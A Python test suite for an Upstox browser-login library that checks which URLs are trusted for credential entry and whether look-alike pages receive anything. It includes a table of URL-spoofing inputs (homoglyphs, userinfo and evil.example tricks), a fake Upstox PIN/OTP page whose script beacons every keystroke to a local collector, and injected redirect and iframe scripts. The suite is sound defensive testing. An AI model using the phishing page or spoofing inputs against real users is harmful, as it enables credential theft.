"""Where credentials may be typed: told by a table, and by what a look-alike page has received."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any, Self
from urllib.parse import urlsplit

import pytest
from hypothesis import assume, example, given
from hypothesis import strategies as st
from playwright.async_api import Page, Route

from tests.harness import Desk, leaks_in, secrets_of
from upstox_browser_login.errors import ConfigurationError, UpstoxError
from upstox_browser_login.page import timing
from upstox_browser_login.page.origins import Origins
from upstox_browser_login.replica import Replica
from upstox_browser_login.session import login_result
from upstox_browser_login.settings import Settings

from .hops import Changed


def origins(uri: str = "https://callback.example/cb", api: str | None = None) -> Origins:
    return Origins.of(Settings(redirect_uri=uri, api_base_url=api))


# -- trusted ---------------------------------------------------------------------------------------

ANYWHERE = [
    ("https://upstox.com", False),
    ("https://community.upstox.com/", False),
    ("https://login.upstox.com/", True),
    ("https://api.upstox.com/v2/login/authorization/dialog", True),
    ("https://service.upstox.com/x", True),
    ("https://api-v2.upstox.com/login/authorization/redirect?code=x", True),
    ("https://a.b.login.upstox.com", False),
    ("https://login.upstox.com:8443/", True),
    ("https://LOGIN.UPSTOX.COM/", True),
    ("https://login.upstox.com?x=@evil.example", True),
    ("http://login.upstox.com/", False),
    ("ws://login.upstox.com/", False),
    ("https://upstox.com.evil.example/", False),
    ("https://evilupstox.com/", False),
    ("https://login-upstox.com/", False),
    ("https://upstox.co/", False),
    ("https://upstox.community/", False),
    ("https://login.upstox.com./", False),
    ("https://upstox.com@evil.example/", False),
    ("https://login.upstox.com:443@evil.example/", False),
    ("https://evil.example/login.upstox.com", False),
    ("https://evil.example?login.upstox.com", False),
    ("https://evil.example#login.upstox.com", False),
    ("https://evil.example\\login.upstox.com", False),
    ("https://login.upstoх.com/", False),  # a Cyrillic letter  # noqa: RUF001
    ("https://login.xn--upsto-x4e.com/", False),
    ("https://ＵＰＳＴＯＸ.com/", False),  # noqa: RUF001
    ("https://127.0.0.1/", False),
    ("https://[::1]/", False),
    ("https://localhost/", False),
    ("https:///login.upstox.com", False),
    ("https:login.upstox.com", False),
    ("//login.upstox.com", False),
    ("login.upstox.com", False),
    ("file:///login.upstox.com/", False),
    ("data:text/html,https://login.upstox.com", False),
    ("blob:https://login.upstox.com/1-2-3", False),
    ("javascript:'https://login.upstox.com'", False),
    ("view-source:https://login.upstox.com", False),
    ("about:blank", False),
    ("chrome-error://chromewebdata/", False),
    ("null", False),
    ("", False),
]


@pytest.mark.parametrize(("url", "trusted"), ANYWHERE)
def test_trusted_on_the_real_site(url: str, trusted: bool) -> None:
    assert origins().trusted(url) is trusted


@pytest.mark.parametrize(("url", "trusted"), ANYWHERE)
def test_a_loopback_api_adds_its_own_host_and_no_more(url: str, trusted: bool) -> None:
    added = urlsplit(url).hostname == "127.0.0.1"
    assert origins(api="http://127.0.0.1:8000").trusted(url) is (trusted or added)


@pytest.mark.parametrize(
    ("api", "url", "trusted"),
    [
        ("http://127.0.0.1:8000", "http://127.0.0.1:1/", True),
        ("http://127.0.0.1:8000", "https://127.0.0.1:9999/x", True),
        ("http://127.0.0.1:8000", "http://127.0.0.2:8000/", False),
        ("http://127.0.0.1:8000", "http://localhost:8000/", False),
        ("http://127.0.0.1:8000", "http://127.0.0.1.evil.example/", False),
        ("http://127.0.0.1:8000", "http://127.0.0.1@evil.example/", False),
        ("http://127.0.0.1:8000", "ftp://127.0.0.1/", False),
        ("http://localhost:8000", "http://LOCALHOST:1/", True),
        ("http://localhost:8000", "http://127.0.0.1:8000/", False),
        ("http://[::1]:8000", "http://[::1]:1/", True),
        ("http://[::1]:8000", "http://[::2]:8000/", False),
        ("https://api-v2.upstox.com", "http://api-v2.upstox.com/", False),
        ("https://api-sandbox.upstox.com", "https://api-sandbox.upstox.com/x", True),
        ("https://api-sandbox.upstox.com", "https://login.upstox.com/", True),
        ("https://api-sandbox.upstox.com", "http://api-sandbox.upstox.com/x", False),
    ],
)
def test_trusted_by_a_loopback_api(api: str, url: str, trusted: bool) -> None:
    assert origins(api=api).trusted(url) is trusted


ADDRESSES = st.one_of(
    st.text(st.characters(exclude_categories=())),
    st.text().map(lambda text: f"https://{text}"),
    st.text().map(lambda text: f"https://login.upstox.com{text}"),
    st.text().map(lambda text: f"https://{text}upstox.com"),
    st.text(alphabet="[]:.@/?#%\\0123456789abcdefx").map(lambda text: f"http://{text}"),
)
SOME = [origins(), origins("http://[::1]:9/", "http://localhost:1"), origins("http://127.1/")]


@given(ADDRESSES, st.sampled_from(SOME))
@example("http://[", SOME[0])
@example("https://upstox.com:99999999/", SOME[0])
@example("https://\ud800/", SOME[0])
def test_no_address_makes_it_raise(url: str, some: Origins) -> None:
    assert some.trusted(url) in {True, False}
    assert some.is_redirect(url) in {True, False}


@given(st.text(alphabet="abcxyz.-@:/?#[]\\%0123456789", max_size=40))
def test_only_upstox_is_trusted(text: str) -> None:
    """By another reading of addresses than ours: the browsers' own rules, in small."""
    url = f"https://{text}"
    if origins().trusted(url):
        authority = text.replace("\\", "/").split("/")[0].split("?")[0].split("#")[0]
        host = authority.rpartition("@")[2].partition(":")[0]
        assert host in {f"{name}.upstox.com" for name in ("login", "api", "api-v2", "service")}


# -- the redirect URI ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("uri", "url", "is_redirect"),
    [
        # A host of its own: all of it, whatever the port, path and scheme.
        ("https://callback.example/cb", "https://callback.example/cb?code=x", True),
        ("https://callback.example/cb", "https://callback.example/", True),
        ("https://callback.example/cb", "http://callback.example:8080/favicon.ico", True),
        ("https://callback.example/cb", "wss://callback.example/", True),
        ("https://callback.example/cb", "https://CALLBACK.EXAMPLE./cb", True),
        ("https://callback.example/cb", "https://user:pass@callback.example/", True),
        ("https://callback.example/cb", "https://sub.callback.example/", False),
        ("https://callback.example/cb", "https://callback.example.evil.example/", False),
        ("https://callback.example/cb", "https://callback.example@evil.example/", False),
        ("https://callback.example/cb", "data:text/html,//callback.example", False),
        ("https://callback.example/cb", "https://login.upstox.com/?u=callback.example", False),
        # One host, many spellings.
        ("https://bücher.example/cb", "https://xn--bcher-kva.example/cb?code=x", True),
        ("https://xn--bcher-kva.example/", "https://bücher.example/", True),
        ("http://127.1:5000/", "http://127.0.0.1:5000/?code=x", True),
        ("http://0x7f.0.0.1:5000/", "http://127.0.0.1:5000/?code=x", True),
        ("http://2130706433:5000/", "http://127.0.0.1:5000/?code=x", True),
        ("http://[0:0::1]:5000/", "http://[::1]:5000/?code=x", True),
        ("https://1e100.example/", "https://1e100.example/", True),
        # This machine: the port decides as well.
        ("http://127.0.0.1:5000/cb", "http://127.0.0.1:5000/other", True),
        ("http://127.0.0.1:5000/cb", "https://127.0.0.1:5000/cb", True),
        ("http://127.0.0.1:5000/cb", "http://127.0.0.1:5001/cb", False),
        ("http://127.0.0.1/cb", "http://127.0.0.1:80/cb", True),
        ("https://localhost/cb", "https://localhost:443/cb", True),
        ("http://localhost:5000/cb", "http://127.0.0.1:5000/cb", False),
        # Upstox's own hosts, which the login needs: the path decides.
        ("https://login.upstox.com/mine", "https://login.upstox.com/mine?code=x", True),
        ("https://login.upstox.com/mine", "https://login.upstox.com/", False),
        ("https://upstox.com", "https://upstox.com/?code=x", True),
    ],
)
def test_is_redirect(uri: str, url: str, is_redirect: bool) -> None:
    assert origins(uri).is_redirect(url) is is_redirect


def test_a_redirect_uri_on_the_apis_own_origin() -> None:
    """The path decides, or nothing of the API could be used."""
    uri = "http://127.0.0.1:8000/mine?x=1"
    shared = origins(uri, "http://127.0.0.1:8000")
    assert shared.is_redirect(f"{uri}&code=x")
    assert not shared.is_redirect("http://127.0.0.1:8000/v2/login/authorization/dialog")
    assert not shared.is_redirect("http://127.0.0.1:8001/mine")
    assert shared.blocked_hosts == ()


@given(st.from_regex(r"https?://[a-z0-9.]{1,20}(:[1-9][0-9]{0,3})?(/[!\"$-~]*)?", fullmatch=True))
def test_every_redirect_uri_is_a_redirect(uri: str) -> None:
    try:
        origins(uri)
    except ConfigurationError:
        assume(False)  # its host is none
    assert origins(uri).is_redirect(uri)
    assert origins(uri).is_answer(uri)


@pytest.mark.parametrize(
    ("url", "returns"),
    [
        ("https://callback.example/cb?code&state", True),
        ("https://callback.example/cb?code=x", True),
        ("https://callback.example/cb?error&state", False),
        ("https://callback.example/cb?error&code&state", False),
        ("https://callback.example/cb?promo_code", False),
        ("https://callback.example/other?code", False),
        ("https://callback.example.evil/cb?code", False),
        ("https://[/cb?code", False),
    ],
)
def test_what_a_link_hands_over_to_the_redirect_uri(url: str, *, returns: bool) -> None:
    assert origins().returns(url) is returns


@pytest.mark.parametrize(
    ("uri", "api", "hosts"),
    [
        ("https://callback.example/cb", None, ("callback.example",)),
        ("https://callback.example:8443/cb", None, ("callback.example",)),
        ("https://bücher.example/", None, ("xn--bcher-kva.example",)),
        ("http://127.0.0.1:5000/cb", None, ("127.0.0.1:5000",)),
        ("http://localhost/cb", None, ("localhost:80",)),
        ("https://localhost/cb", None, ("localhost:443",)),
        ("http://[::1]:5000/cb", None, ("[::1]:5000",)),
        ("http://127.0.0.1:5000/", "http://127.0.0.1:8000", ("127.0.0.1:5000",)),
        ("https://www.upstox.com/", None, ()),
    ],
)
def test_blocked_hosts(uri: str, api: str | None, hosts: tuple[str, ...]) -> None:
    assert origins(uri, api).blocked_hosts == hosts


# -- in the browser --------------------------------------------------------------------------------


class Collector:
    """A foreign host with a look-alike form, which sends home every key that is typed."""

    def __init__(self) -> None:
        received = self.received = list[bytes]()

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                received.append(self.path.encode())
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(LOOK_ALIKE)

            def do_POST(self) -> None:
                received.append(self.rfile.read(int(self.headers["Content-Length"] or 0)))
                self.send_response(204)
                self.end_headers()

            def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://localhost:{self._server.server_port}"
        self._thread = Thread(target=self._server.serve_forever, args=(0.01,))

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join()


LOOK_ALIKE = b"""<!doctype html><title>Login to Upstox</title>
<form id="secret-pin-form" action="/collect" method="post">
<form id="otp-form"><label>Enter OTP or TOTP <input id="otpNum"></label>
<button id="continueBtn" type="submit">Continue</button></form>
<label>Enter 6-digit PIN <input id="pinCode" type="password"></label>
<button id="pinContinueBtn" type="submit">Continue</button></form>
<script>addEventListener("input", (event) => navigator.sendBeacon("/keys", event.target.value));
fetch("/ready", {method: "POST", body: "ready"});</script>"""


@pytest.fixture
def collector() -> Iterator[Collector]:
    with Collector() as made:
        yield made


def log_in_changed(desk: Desk, replica: Replica, change: Callable[[Page], Any]) -> UpstoxError:
    with pytest.raises(UpstoxError) as caught:
        login_result(desk.settings(replica), progress=Changed(change), clock=desk.clock)
    return caught.value


def instead_of(pattern: str, script: str) -> Callable[[Page], Any]:
    """Let the page run `script` when the answer to a call has come."""

    async def change(page: Page) -> None:
        async def run(route: Route) -> None:
            if route.request.method == "POST":
                await page.evaluate(script)
            await route.continue_()

        await page.route(pattern, run)

    return change


@pytest.mark.usefixtures("sharing")
def test_the_page_leads_astray_in_the_middle(
    desk: Desk, replica: Replica, collector: Collector
) -> None:
    """After the mobile number a script goes to a look-alike: nothing is loaded from it."""
    change = instead_of("**/otp/generate", f"setTimeout(() => location.assign('{collector.url}'))")
    error = log_in_changed(desk, replica, change)
    assert (error.code, error.exit_code) == ("UNTRUSTED_ORIGIN", 7)
    assert collector.url.removeprefix("http://") in error.message
    assert collector.received == []
    assert (replica.counts.codes, replica.counts.pins) == ([], 0)


FRAMED = """(() => {
  const frame = document.createElement("iframe");
  frame.src = "%s/framed"; frame.style.cssText = "width: 600px; height: 300px";
  document.querySelector("form").replaceWith(frame);
})()"""


@pytest.mark.usefixtures("sharing")
def test_a_foreign_frame_in_the_forms_place(
    desk: Desk, replica: Replica, collector: Collector, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A form in a frame is no form of the page's."""
    monkeypatch.setattr(timing, "DEFAULT", timing.Timing(unknown=4.0))
    change = instead_of("**/auth/2fa?**", FRAMED % collector.url)

    async def otp(page: Page) -> None:
        await instead_of("**/otp-totp/verify", FRAMED % collector.url)(page)
        await change(page)
        await page.add_init_script(
            "addEventListener('DOMContentLoaded', () => new MutationObserver(() => {"
            " if (document.querySelector('#pinCode')) document.querySelector('#pinCode').remove();"
            "}).observe(document, {childList: true, subtree: true}))"
        )

    error = log_in_changed(desk, replica, otp)
    assert error.exit_code in {7, 9}
    assert b"/framed" in collector.received
    typed = [each for each in collector.received if each not in {b"/framed", b"ready"}]
    assert [each for each in typed if not each.startswith(b"/")] == []
    assert leaks_in(b" ".join(collector.received), secrets_of(replica)) == set()
    assert replica.counts.pins == 0


@pytest.mark.usefixtures("sharing")
@pytest.mark.parametrize("replica", [("foreign-login",)], indirect=True)
def test_a_foreign_login_page(replica: Replica, desk: Desk) -> None:
    """The dialog leads to a look-alike: it is not even loaded."""
    attempt = desk.log_in(replica)
    assert attempt.code == "UNTRUSTED_ORIGIN"
    assert attempt.error is not None
    assert attempt.error.step == "open"
    assert replica.counts.pages == 0
    assert {entry.step for entry in replica.log} == {"dialog"}


@pytest.mark.usefixtures("sharing")
@pytest.mark.parametrize("replica", [("foreign-frame",)], indirect=True)
def test_a_look_alike_before_the_real_form(replica: Replica, desk: Desk) -> None:
    """The real form is used, and the look-alike hears nothing."""
    attempt = desk.log_in(replica)
    assert attempt.code == "OK", attempt.error
    third = [entry for entry in replica.log if entry.origin == "third-party"]
    assert any(entry.path == "/partner/login" for entry in third)
    told = repr([(entry.path, entry.query, entry.body) for entry in third])
    assert leaks_in(told.encode(), secrets_of(replica)) == set()
